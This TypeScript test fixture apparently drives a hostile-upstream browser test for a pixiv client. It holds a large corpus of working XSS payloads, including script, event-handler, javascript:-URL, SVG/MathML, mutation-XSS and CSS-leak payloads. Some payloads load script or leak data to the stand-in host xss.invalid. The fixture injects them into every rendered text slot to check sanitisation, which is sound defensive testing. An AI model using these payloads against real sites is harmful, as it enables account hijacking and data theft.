/**
 * The XSS corpus for the hostile upstream (issue 20): payloads from the usual families (script
 * and event handlers, `javascript:` and `data:` URLs, SVG and MathML, mutation XSS, CSS
 * injection, broken markup, pixiv novel markup abuse) and the rules that place them in every
 * text slot of every upstream answer the app renders, rotating so that one page load carries
 * many payloads.
 *
 * A payload that runs calls `pvXss(id)` (a canary the browser test installs), `alert(id)` (a
 * dialog) or loads `//xss.invalid/id` (a request to an unexpected origin): the test fails on any.
 * Each placed string starts with a visible marker `⟦slot⟧`, so that the test can tell which
 * slots a screen rendered (a screen that rendered nothing would pass vacuously).
 */
import type { HostileRule, HostileUpstream } from './hostile.ts';
import { rewriteStrings } from './hostile.ts';

export interface XssPayload {
  id: number;
  family: string;
  text: string;
}

/** The host a payload's network probe points at: any request to it is a finding. */
export const XSS_PROBE_HOST = 'xss.invalid';

// `$` is replaced by the payload's call, `@ID` by its id.
const MARKUP: Record<string, string[]> = {
  script: [
    '<script>$</script>',
    '<SCRIPT>$</SCRIPT>',
    '<script src=//xss.invalid/@ID.js></script>',
    '<script>/*</script><script>$//*/</script>',
    '<scr<script>ipt>$</scr</script>ipt>',
    '"><script>$</script>',
    "'><script>$</script>",
    '</title><script>$</script>',
    '</textarea><script>$</script>',
    '</style><script>$</script>',
    '<script type=module>$</script>',
    '<script>{$}</script>',
    '\u003cscript\u003e$\u003c/script\u003e',
    '&lt;script&gt;$&lt;/script&gt;',
    '<script\x0c>$</script>',
    '<script/x>$</script>',
  ],
  handlers: [
    '<img src=x onerror=$>',
    '<img src=x onerror="$">',
    '<IMG SRC=x OnErRoR=$>',
    '<img src="x" onerror=\'$\'>',
    '<img src=x:x onerror=$//',
    '<img/src/onerror=$>',
    '<body onload=$>',
    '<div onmouseover=$ style=position:fixed;inset:0>x</div>',
    '<input autofocus onfocus=$>',
    '<select autofocus onfocus=$>',
    '<textarea autofocus onfocus=$></textarea>',
    '<details open ontoggle=$>',
    '<video><source onerror=$></video>',
    '<audio src=x onerror=$>',
    '<marquee onstart=$>x</marquee>',
    '<iframe onload=$></iframe>',
    '<object data=x onerror=$></object>',
    '<img src=x onerror=&#36;{$}>',
    '<img src=x onerror=eval(atob("cHZYc3MoMSk="))>',
    '<img src=x onerror=window["pv"+"Xss"](@ID)>',
    '<x onclick=$>click</x>',
    '<a onmouseover=$>hover</a>',
    '<form><button formaction=javascript:$>x</button></form>',
    '<isindex type=image src=x onerror=$>',
    '<img src=x onerror\x0b=$>',
    '<img src=x onerror\u3000=$>',
    '<img src="x` `<script>$</script>"` `>',
    '<image src=x onerror=$>',
    '<body onpageshow=$>',
    '<svg><animate onbegin=$ attributeName=x dur=1s>',
  ],
  urls: [
    '<a href="javascript:$">link</a>',
    '<a href="JaVaScRiPt:$">link</a>',
    '<a href=" javascript:$">link</a>',
    '<a href="java\tscript:$">link</a>',
    '<a href="java&#x09;script:$">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$">link</a>',
    '<a href="javascript&colon;$">link</a>',
    '<a href="data:text/html,<script>$</script>">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wdlhzcygxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="vbscript:msgbox(@ID)">link</a>',
    '<iframe src="javascript:$"></iframe>',
    '<iframe src="data:text/html,<script>parent.$</script>"></iframe>',
    '<iframe srcdoc="<script>parent.$</script>"></iframe>',
    '<embed src="javascript:$">',
    '<object data="javascript:$"></object>',
    '<form action="javascript:$"><input type=submit></form>',
    '<img src="javascript:$">',
    '<meta http-equiv="refresh" content="0;url=javascript:$">',
    '<base href="javascript:$//">',
    '<a href="//xss.invalid/@ID">link</a>',
    '<img src="https://xss.invalid/@ID.png">',
    '<link rel=stylesheet href=//xss.invalid/@ID.css>',
    '<a href="https://www.pixiv.net/jump.php?javascript:$">link</a>',
    '<a href="\x01javascript:$">link</a>',
    '<a href="javascript://%0a$">link</a>',
    '<a href="jav&#x0A;ascript:$">link</a>',
  ],
  svg: [
    '<svg onload=$>',
    '<svg/onload=$>',
    '<svg><script>$</script></svg>',
    '<svg><script href="data:,$"></script></svg>',
    '<svg><a xlink:href="javascript:$"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="javascript:$"><circle r=40></circle></a></svg>',
    '<svg><set attributeName=href to="javascript:$"/></svg>',
    '<svg><animate attributeName=href values="javascript:$"/></svg>',
    '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=$ /></svg>#x"/></svg>',
    '<svg><image href=x onerror=$ /></svg>',
    '<svg><style>@import "//xss.invalid/@ID.css"</style></svg>',
    '<svg><title><img src=x onerror=$></title></svg>',
    '<svg><desc><![CDATA[</desc><script>$</script>]]></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=$></style></mglyph></table></mtext></math>',
    '<math><maction actiontype=statusline xlink:href=javascript:$>x</maction></math>',
    '<math href="javascript:$">x</math>',
    '<math><mi xlink:href="javascript:$">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=$></annotation-xml></math>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$</handler></svg>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=$>">',
    '<svg></p><style><a id="</style><img src=x onerror=$>">',
    '<math><mi><table><mi><style><img src=x onerror=$></style></mi></table></mi></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$>',
    '<svg><style><img src=x onerror=$></style></svg>',
    '<template><img src=x onerror=$></template>',
    '<table><img src=x onerror=$></table>',
    '<xmp><p title="</xmp><img src=x onerror=$>">',
    '<noembed><img title="</noembed><img src=x onerror=$>">',
    '<noframes><img title="</noframes><img src=x onerror=$>">',
    '<iframe><img title="</iframe><img src=x onerror=$>">',
    '<textarea><img title="</textarea><img src=x onerror=$>">',
    '<title><img title="</title><img src=x onerror=$>">',
    '<!--><img src=x onerror=$>-->',
    '<!-- --!><img src=x onerror=$>-->',
    '<a title="a"<img src=x onerror=$>>',
    '<img src="x"/onerror=$>',
    '<![CDATA[><img src=x onerror=$>]]>',
    '<?xml><img src=x onerror=$>?>',
    '<p id="a`"><img src=x onerror=$>',
    '<select><template><img src=x onerror=$></template></select>',
    '<div id="x"></div><style>#x{}</style><img src=x onerror=$>',
  ],
  css: [
    '<div style="background:url(javascript:$)">x</div>',
    '<div style="background-image:url(//xss.invalid/@ID.png)">x</div>',
    '<div style="width:expression($)">x</div>',
    '<style>@import url(//xss.invalid/@ID.css);</style>',
    '<style>body{background:url("//xss.invalid/@ID.png")}</style>',
    '<style>*{behavior:url(//xss.invalid/@ID.htc)}</style>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
    '<style>input[value^="a"]{background:url(//xss.invalid/@IDa)}</style>',
    '<link rel=import href=//xss.invalid/@ID.html>',
    '<div style="-moz-binding:url(//xss.invalid/@ID.xml#x)">x</div>',
    '<font face="x\';background:url(//xss.invalid/@ID)">x</font>',
    '<div style="&#98;ackground:url(//xss.invalid/@ID.png)">x</div>',
  ],
  broken: [
    '<img src=x onerror=$',
    '<img src="x" onerror="$',
    '<<script>$//<</script>',
    '<a href="javascript:$"',
    '</p></div></span></a></li></ul><img src=x onerror=$>',
    '"><img src=x onerror=$>',
    "'><img src=x onerror=$>",
    '`><img src=x onerror=$>',
    '"onmouseover="$"',
    "' onfocus='$' autofocus x='",
    '</a><a href=javascript:$>x',
    '<div <img src=x onerror=$>>',
    '<img """><script>$</script>">',
    '\u0000<script>$</script>',
    '<scri\u0000pt>$</scri\u0000pt>',
    '%3Cscript%3E$%3C/script%3E',
    '\\u003cimg src=x onerror=$\\u003e',
    '{{constructor.constructor("$")()}}',
    '${$}',
    '<%= $ %>',
    '<img src=x onerror=$ <!--',
    '<!--<img src="--><img src=x onerror=$//">',
    '</script><script>$</script>',
    '<a href="#" onclick="$">x</a',
  ],
  novel: [
    '[[jumpuri:x > javascript:$]]',
    '[[jumpuri:x > JavaScript:$]]',
    '[[jumpuri:x >  javascript:$]]',
    '[[jumpuri:x > data:text/html,<script>$</script>]]',
    '[[jumpuri:<img src=x onerror=$> > https://www.pixiv.net/]]',
    '[[jumpuri:x > https://xss.invalid/@ID]]',
    '[[jumpuri:x > //xss.invalid/@ID]]',
    '[[jumpuri:x > https://www.pixiv.net/" onmouseover="$]]',
    '[[rb:<img src=x onerror=$> > x]]',
    '[[rb:x > <img src=x onerror=$>]]',
    '[[rb:[[jumpuri:x > javascript:$]] > y]]',
    '[chapter:<img src=x onerror=$>]',
    '[chapter:[[jumpuri:x > javascript:$]]]',
    '[pixivimage:1"><img src=x onerror=$>]',
    '[pixivimage:javascript:$]',
    '[jump:1"><img src=x onerror=$>]',
    '[jump:javascript:$]',
    '[uploadedimage:1" onerror="$]',
    '[newpage]<script>$</script>',
  ],
};

/** Pixiv's own id syntax abused where a link is built from it. */
const URLS = [
  'javascript:$',
  'JAVASCRIPT:$',
  ' javascript:$',
  'java\nscript:$',
  'javascript&colon;$',
  '&#106;avascript:$',
  'data:text/html,<script>$</script>',
  'vbscript:msgbox(@ID)',
  'https://xss.invalid/@ID',
  '//xss.invalid/@ID',
  'https://www.pixiv.net/"><img src=x onerror=$>',
  'javascript://https://twitter.com/%0a$',
];

function expand(template: string, id: number): string {
  return template.replaceAll('$', `pvXss(${id})`).replaceAll('@ID', String(id));
}

/** Every payload with its id (ids start at 1; `pvXss(id)` in the text). */
export const XSS_PAYLOADS: XssPayload[] = (() => {
  const out: XssPayload[] = [];
  for (const [family, templates] of Object.entries(MARKUP)) {
    for (const t of templates) out.push({ id: out.length + 1, family, text: '' + t });
  }
  // the same attacks once more with `alert` (a dialog) in place of the canary
  for (const [family, templates] of Object.entries(MARKUP)) {
    for (const t of templates.filter((x) => x.includes('$'))) {
      out.push({ id: out.length + 1, family, text: t.replaceAll('$', 'alert(@ID)') });
    }
  }
  return out.map((p) => ({ ...p, text: expand(p.text, p.id) }));
})();

/** Payloads for slots that hold a URL (profile web links). */
export const XSS_URL_PAYLOADS: XssPayload[] = URLS.map((t, i) => ({
  id: 10_000 + i,
  family: 'url',
  text: expand(t, 10_000 + i),
}));

/** JSON keys whose strings the app shows as text (or sanitised HTML). */
export const TEXT_KEYS = new Set([
  'title',
  'caption',
  'name',
  'account',
  'comment',
  'translated_name',
  'text',
  'description',
  'body',
  'normalized_body',
  'job',
  'region',
  'tools',
  'userName',
  'alt',
  'tag',
  'seriesTitle',
  'series_title',
  'subject',
  'message',
]);

/** JSON keys whose strings the app turns into links. */
export const URL_KEYS = new Set(['webpage', 'twitter_url', 'pawoo_url']);

/**
 * Hands out payloads by slot: each string placed gets the slot's marker and the next
 * `perString` payloads of the corpus (long-text slots four times as many), so that a list of
 * thirty titles carries the corpus several times over. `placed` counts what went where.
 */
export class XssRotation {
  readonly placed = new Map<string, Set<number>>();
  private readonly cursors = new Map<string, number>();

  constructor(
    readonly payloads: XssPayload[] = XSS_PAYLOADS,
    readonly perString = 12,
    readonly perLong = 48,
    readonly longSlots = new Set(['caption', 'comment', 'text', 'description', 'body']),
  ) {}

  /** The string placed in `slot` instead of its upstream value. */
  next(slot: string, pool: XssPayload[] = this.payloads, count?: number): string {
    const n = Math.min(
      pool.length,
      count ?? (this.longSlots.has(slot) ? this.perLong : this.perString),
    );
    const start = this.cursors.get(`${slot}/${pool.length}`) ?? 0;
    this.cursors.set(`${slot}/${pool.length}`, (start + n) % pool.length);
    const set = this.placed.get(slot) ?? new Set<number>();
    this.placed.set(slot, set);
    const parts: string[] = [];
    for (let i = 0; i < n; i++) {
      const p = pool[(start + i) % pool.length]!;
      set.add(p.id);
      parts.push(p.text);
    }
    return `⟦${slot}⟧ ${parts.join(' ')}`;
  }

  /**
   * One URL payload for a URL slot (no marker: the value must stay a single URL); slots that
   * name the same `cursor` take turns through one rotation.
   */
  nextUrl(cursor: string, slot = cursor): string {
    const start = this.cursors.get(cursor) ?? 0;
    this.cursors.set(cursor, (start + 1) % XSS_URL_PAYLOADS.length);
    const p = XSS_URL_PAYLOADS[start]!;
    const set = this.placed.get(slot) ?? new Set<number>();
    this.placed.set(slot, set);
    set.add(p.id);
    return p.text;
  }

  /** A JSON string rewrite for the hostile upstream: text and URL keys, the rest kept. */
  strings = (prefix: string) => (value: string, key: string) => {
    if (URL_KEYS.has(key) && value) return this.nextUrl(`${prefix}${key}`);
    if (!TEXT_KEYS.has(key)) return value;
    // enumerations and identifiers that happen to sit under a text key stay as they are
    if (/^https?:\/\//.test(value) || /^\d{4}-\d\d-\d\dT/.test(value)) return value;
    return this.next(`${prefix}${key}`);
  };

  /** The novel reader's text with every markup element carrying payloads. */
  novelText(): string {
    const novel = this.payloads.filter((p) => p.family === 'novel');
    const others = this.next('novel.text', this.payloads, this.payloads.length);
    const chunk = (slot: string) => this.next(slot, this.payloads, 6);
    return [
      others,
      ...novel.map((p) => p.text),
      `[chapter:${chunk('novel.chapter')}]`,
      `[[rb:${chunk('novel.rb')} > ${chunk('novel.rt')}]]`,
      `[[jumpuri:${chunk('novel.jumpuri')} > https://www.pixiv.net/]]`,
      ...XSS_URL_PAYLOADS.map((p) => `[[jumpuri:link ${p.id} > ${p.text}]]`),
      '[newpage]',
      `[jump:1] ${chunk('novel.page2')}`,
      '[pixivimage:1]',
    ].join('\n');
  }
}

/** A JSON value rewritten as `scriptJson` in the sandbox writes it into a script. */
function scriptJson(value: unknown): string {
  return JSON.stringify(value)
    .replace(/\//g, '\\/')
    .replace(/</g, '\\u003c')
    .replace(/\u2028/g, '\\u2028')
    .replace(/\u2029/g, '\\u2029');
}

/** Pixivision HTML with payloads as raw markup in titles, paragraphs and attributes. */
function pixivisionHtml(html: string, rotation: XssRotation): string {
  return html
    .replace(
      /(<p(?: [^>]*)?>)([^<]*)(<\/p>)/g,
      (_m, a: string, _t, b: string) =>
        `${a}${rotation.next('pixivision.paragraph', rotation.payloads, 12)}${b}`,
    )
    .replace(
      /(<h1 class="am__title">)([^<]*)(<\/h1>)/g,
      (_m, a: string, _t, b: string) => `${a}${rotation.next('pixivision.title')}${b}`,
    )
    .replace(
      /(data-gtm-action="ClickTitle"[^>]*>)([^<]*)(<\/a>)/g,
      (_m, a: string, _t, b: string) => `${a}${rotation.next('pixivision.card')}${b}`,
    )
    .replace(
      /(class="am__work__title"><a [^>]*>)([^<]*)(<\/a>)/g,
      (_m, a: string, _t, b: string) => `${a}${rotation.next('pixivision.work')}${b}`,
    )
    .replace(/ alt="/g, ' onerror="pvXss(0)" alt="');
}

/**
 * Adds the rules that place the corpus in every text slot: the app API's JSON, the novel
 * reader's webview page, the www ajax answers, pixivision's HTML, sketch's lives and chat logs,
 * the viewer services' notices and the AI translator's streamed answers. Returns a function that
 * removes them.
 */
export function addXssRules(hostile: HostileUpstream, rotation: XssRotation): () => void {
  const rules: HostileRule[] = [
    { pathPrefix: '/app-api.pixiv.net/', strings: rotation.strings('') },
    // a profile's web links: most sandbox users have none, so every profile gets all three
    {
      pathPrefix: '/app-api.pixiv.net/v1/user/detail',
      strings: rotation.strings(''),
      json: (value) => {
        const profile = (value as { profile?: Record<string, unknown> }).profile;
        // the two links a profile shows take turns through one rotation: six profiles carry
        // every URL payload on screen
        if (profile) {
          profile.webpage = rotation.nextUrl('weblink', 'webpage');
          profile.twitter_url = rotation.nextUrl('weblink', 'twitter_url');
          profile.pawoo_url = rotation.nextUrl('pawoo_url');
        }
        return value;
      },
    },
    { pathPrefix: '/www.pixiv.net/', strings: rotation.strings('www.') },
    { pathPrefix: '/sketch.pixiv.net/', strings: rotation.strings('sketch.') },
    { pathPrefix: '/www.pixivision.net/', text: (html) => pixivisionHtml(html, rotation) },
    { pathPrefix: '/viewer-services.invalid/notice.json', strings: rotation.strings('notice.') },
    // the AI translator's streamed answer: each line of translated text carries payloads (the
    // line breaks stay, so that the lines still pair with the original's)
    {
      pathPrefix: '/api.siliconflow.cn/',
      text: (body) =>
        body.replace(/"content":("(?:[^"\\]|\\.)*")/g, (_m, json: string) => {
          const chunk = JSON.parse(json) as string;
          const placed = chunk.replace(/[^\n]+/g, () =>
            rotation.next('translation', rotation.payloads, 2).replace(/\n/g, ' '),
          );
          return `"content":${JSON.stringify(placed)}`;
        }),
    },
    {
      pathPrefix: '/app-api.pixiv.net/webview/',
      text: (html) =>
        html.replace(/novel: (\{.*\}),\n/, (_m, json: string) => {
          const novel = rewriteStrings(JSON.parse(json), (value, key) =>
            key === 'text' ? rotation.novelText() : rotation.strings('novel.')(value, key),
          );
          return `novel: ${scriptJson(novel)},\n`;
        }),
    },
  ];
  const removers = rules.map((r) => hostile.add(r));
  return () => removers.forEach((remove) => remove());
}
